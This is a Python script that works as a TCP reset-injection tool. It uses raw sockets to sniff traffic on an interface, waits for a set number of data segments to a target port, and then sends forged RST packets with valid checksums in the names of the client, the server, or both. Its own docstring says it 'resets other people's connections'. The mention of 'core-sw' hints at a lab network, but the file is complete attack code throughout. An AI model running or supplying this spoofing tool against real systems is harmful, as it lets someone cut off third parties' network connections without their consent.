"""A middlebox that resets other people's connections: ``forge.py INTERFACE PORT AFTER TOWARDS``, inside core-sw."""

from __future__ import annotations

import socket
import struct
import sys
import time
from typing import NamedTuple

EVERY_PROTOCOL = 0x0003
"""A socket for one protocol would not be shown what the device itself sends."""
ETH_IPV4 = b"\x08\x00"
OUTGOING = 4
PATIENCE_S = 60.0
RST, RST_ACK = 4, 0x14


class Segment(NamedTuple):
    """What a forged reset is made from."""

    src: bytes
    dst: bytes
    sport: int
    dport: int
    seq: int
    ack: int
    payload: int


def main() -> None:
    """Wait for the given number of data segments to PORT, then send resets in both ends' names."""
    interface, port, after, towards = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(EVERY_PROTOCOL))
    sniffer.bind((interface, EVERY_PROTOCOL))
    sniffer.settimeout(PATIENCE_S)
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sys.stdout.write("listening\n")
    sys.stdout.flush()
    seen, end = 0, time.monotonic() + PATIENCE_S
    while time.monotonic() < end:
        frame, address = sniffer.recvfrom(65_536)
        segment = parse(frame) if address[2] == OUTGOING else None
        if segment is None or segment.dport != port or not segment.payload:
            continue
        seen += 1
        if seen == after:
            strike(sender, segment, towards)
            return


def parse(frame: bytes) -> Segment | None:
    """Return the fields of a TCP segment."""
    if frame[12:14] != ETH_IPV4 or frame[23] != socket.IPPROTO_TCP:
        return None
    header = (frame[14] & 15) * 4
    at = 14 + header
    total = struct.unpack("!H", frame[16:18])[0]
    sport, dport, seq, ack = struct.unpack("!HHII", frame[at : at + 12])
    payload = total - header - (frame[at + 12] >> 4) * 4
    return Segment(frame[26:30], frame[30:34], sport, dport, seq, ack, payload)


def strike(sender: socket.socket, s: Segment, towards: str) -> None:
    """Send the resets."""
    following = (s.seq + s.payload) & 0xFFFFFFFF
    if towards in {"server", "both"}:
        _send(sender, s.src, s.dst, s.sport, s.dport, following)
    if towards in {"client", "both"}:
        _send(sender, s.dst, s.src, s.dport, s.sport, s.ack)


def _send(sender: socket.socket, src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> None:
    head = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, RST, 0, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(head))
    head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(head), 0x1234, 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    sender.sendto(ip + head, (socket.inet_ntoa(dst), 0))


def checksum(data: bytes) -> int:
    """Return the Internet checksum (RFC 1071)."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


if __name__ == "__main__":
    main()
